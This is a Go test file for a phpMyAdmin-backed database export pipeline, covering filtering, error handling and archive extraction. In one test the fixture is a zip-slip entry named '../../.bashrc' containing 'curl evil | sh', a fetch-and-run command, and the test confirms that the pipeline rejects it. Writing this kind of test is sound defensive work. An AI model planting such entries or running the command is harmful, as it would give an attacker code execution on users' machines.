package export

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"pmaexport/internal/components/telemetry"
	"pmaexport/internal/scrapers/phpmyadmin"
	"pmaexport/internal/testutil/fakeconsole"
	"pmaexport/internal/zipstream"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/require"
)

var shopTables = map[string][]string{
	"shop":  {"users", "orders", "log_2023", "log_2024"},
	"empty": {},
}

func newTestPipeline(t testing.TB, opts fakeconsole.Options) (Pipeline, *fakeconsole.Console) {
	if opts.Tables == nil {
		opts.Tables = shopTables
	}
	console := fakeconsole.New(t, opts)
	client, err := phpmyadmin.NewClient(phpmyadmin.ClientOptions{
		BaseUrl:           console.URL,
		Timeout:           5 * time.Second,
		RequestsPerSecond: 1000,
		Burst:             10,
	}, telemetry.SlogAPI{})
	require.NoError(t, err)
	return NewPipeline(client, 4, telemetry.SlogAPI{}), console
}

func readFile(t testing.TB, path string) string {
	content, err := os.ReadFile(path)
	require.NoError(t, err)
	return string(content)
}

func TestPipelineExportSeparateFiles(t *testing.T) {
	pipeline, console := newTestPipeline(t, fakeconsole.Options{})
	dir := filepath.Join(t.TempDir(), "dump")

	written, err := pipeline.Export(context.Background(), Job{
		Database:      "shop",
		Tables:        []string{"users", "orders", "users"},
		Policy:        Policy{DataTables: []string{"users"}},
		Output:        dir,
		SeparateFiles: true,
	})
	require.NoError(t, err)

	names := []string{}
	for _, w := range written {
		names = append(names, w.Name)
	}
	require.Equal(t, []string{"users.sql", "orders.sql"}, names)

	require.Contains(t, readFile(t, filepath.Join(dir, "users.sql")), "INSERT INTO `users`")
	require.NotContains(t, readFile(t, filepath.Join(dir, "orders.sql")), "INSERT")

	forms := console.ExportForms()
	require.Len(t, forms, 1)
	if diff := cmp.Diff([]string{"users", "orders"}, forms[0]["table_select[]"]); diff != "" {
		t.Fatalf("table_select[] mismatch (-want +got):\n%s", diff)
	}
	require.Equal(t, []string{"users"}, forms[0]["table_data[]"])
	require.Equal(t, "database", forms[0].Get("as_separate_files"))
}

func TestPipelineExportUnknownTables(t *testing.T) {
	pipeline, console := newTestPipeline(t, fakeconsole.Options{})

	_, err := pipeline.Export(context.Background(), Job{
		Database: "shop",
		Tables:   []string{"users", "carts", "invoices"},
		Output:   t.TempDir(),
	})

	var unknown *UnknownTableError
	require.True(t, errors.As(err, &unknown))
	require.Equal(t, []string{"carts", "invoices"}, unknown.Tables)
	require.Empty(t, console.ExportForms())
}

func TestPipelineExportUnknownDataTables(t *testing.T) {
	pipeline, console := newTestPipeline(t, fakeconsole.Options{})

	_, err := pipeline.Export(context.Background(), Job{
		Database: "shop",
		Tables:   []string{"users"},
		Policy:   Policy{DataTables: []string{"orders"}},
		Output:   t.TempDir(),
	})

	var unknown *UnknownTableError
	require.True(t, errors.As(err, &unknown))
	require.Equal(t, []string{"orders"}, unknown.Tables)
	require.Empty(t, console.ExportForms())
}

func TestPipelineExportAllFiltered(t *testing.T) {
	pipeline, console := newTestPipeline(t, fakeconsole.Options{})
	dir := t.TempDir()

	written, err := pipeline.ExportAll(context.Background(), Job{
		Database:       "shop",
		FilterTable:    regexp.MustCompile(`^log_`),
		Policy:         Policy{DataPrefix: prefix("log_2024")},
		Output:         dir,
		CreateDatabase: true,
	})
	require.NoError(t, err)
	require.Len(t, written, 1)
	require.Equal(t, "shop.sql", written[0].Name)

	dump := readFile(t, filepath.Join(dir, "shop.sql"))
	require.Equal(t, len(dump), written[0].Size)
	require.True(t, strings.HasPrefix(dump, "CREATE DATABASE IF NOT EXISTS `shop`;"))
	require.Contains(t, dump, "CREATE TABLE `log_2023`")
	require.Contains(t, dump, "INSERT INTO `log_2024`")
	require.NotContains(t, dump, "INSERT INTO `log_2023`")
	require.NotContains(t, dump, "`users`")

	forms := console.ExportForms()
	require.Len(t, forms, 1)
	require.Equal(t, []string{"log_2023", "log_2024"}, forms[0]["table_structure[]"])
}

func TestPipelineExportAllEverything(t *testing.T) {
	pipeline, _ := newTestPipeline(t, fakeconsole.Options{})
	dir := t.TempDir()

	_, err := pipeline.ExportAll(context.Background(), Job{
		Database: "shop",
		Policy:   Policy{AllData: true},
		Output:   dir,
	})
	require.NoError(t, err)

	dump := readFile(t, filepath.Join(dir, "shop.sql"))
	for _, table := range shopTables["shop"] {
		require.Contains(t, dump, "INSERT INTO `"+table+"`")
	}
	require.NotContains(t, dump, "CREATE DATABASE")
}

func TestPipelineExportAllNothingSelected(t *testing.T) {
	pipeline, console := newTestPipeline(t, fakeconsole.Options{})

	for _, job := range []Job{
		{Database: "empty"},
		{Database: "shop", FilterTable: regexp.MustCompile(`^nothing$`)},
	} {
		job.Output = t.TempDir()
		_, err := pipeline.ExportAll(context.Background(), job)

		var empty *phpmyadmin.ExportTargetEmptyError
		require.True(t, errors.As(err, &empty), "%s: %v", job.Database, err)
	}
	require.Empty(t, console.ExportForms())
}

func TestPipelineUnsupportedCompression(t *testing.T) {
	pipeline, _ := newTestPipeline(t, fakeconsole.Options{
		Files: []fakeconsole.File{
			{Name: "shop.sql", Content: []byte("CREATE TABLE `users`;"), Stored: true},
		},
	})
	dir := filepath.Join(t.TempDir(), "dump")

	_, err := pipeline.ExportAll(context.Background(), Job{Database: "shop", Output: dir})

	var unsupported *zipstream.UnsupportedCompressionError
	require.True(t, errors.As(err, &unsupported))
	require.Equal(t, uint16(0), unsupported.Method)

	_, err = os.Stat(dir)
	require.True(t, errors.Is(err, os.ErrNotExist))
}

func TestPipelineUnsafeArchive(t *testing.T) {
	pipeline, _ := newTestPipeline(t, fakeconsole.Options{
		Files: []fakeconsole.File{
			{Name: "shop.sql", Content: []byte("CREATE TABLE `users`;")},
			{Name: "../../.bashrc", Content: []byte("curl evil | sh")},
		},
	})
	dir := filepath.Join(t.TempDir(), "dump")

	_, err := pipeline.ExportAll(context.Background(), Job{Database: "shop", Output: dir})

	var unsafe *UnsafeEntryNameError
	require.True(t, errors.As(err, &unsafe))
	require.Equal(t, "../../.bashrc", unsafe.Name)
}

func TestPipelineConsoleFailures(t *testing.T) {
	t.Run("landing page", func(t *testing.T) {
		pipeline, console := newTestPipeline(t, fakeconsole.Options{LandingStatus: 500})
		_, err := pipeline.ExportAll(context.Background(), Job{Database: "shop", Output: t.TempDir()})

		var auth *phpmyadmin.AuthExtractionError
		require.True(t, errors.As(err, &auth))
		var network *phpmyadmin.NetworkError
		require.True(t, errors.As(err, &network))
		require.Equal(t, 500, network.StatusCode)
		require.Empty(t, console.ExportForms())
	})

	t.Run("unknown database", func(t *testing.T) {
		pipeline, _ := newTestPipeline(t, fakeconsole.Options{})
		_, err := pipeline.Export(context.Background(), Job{
			Database: "missing",
			Tables:   []string{"users"},
			Output:   t.TempDir(),
		})

		var network *phpmyadmin.NetworkError
		require.True(t, errors.As(err, &network))
		require.Equal(t, 404, network.StatusCode)
	})

	t.Run("export", func(t *testing.T) {
		pipeline, _ := newTestPipeline(t, fakeconsole.Options{ExportStatus: 502})
		_, err := pipeline.ExportAll(context.Background(), Job{Database: "shop", Output: t.TempDir()})

		var network *phpmyadmin.NetworkError
		require.True(t, errors.As(err, &network))
		require.Equal(t, 502, network.StatusCode)
	})
}

func TestPipelineCancelled(t *testing.T) {
	pipeline, console := newTestPipeline(t, fakeconsole.Options{})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	_, err := pipeline.ExportAll(ctx, Job{Database: "shop", Output: t.TempDir()})
	require.ErrorIs(t, err, context.Canceled)
	require.Empty(t, console.ExportForms())
}
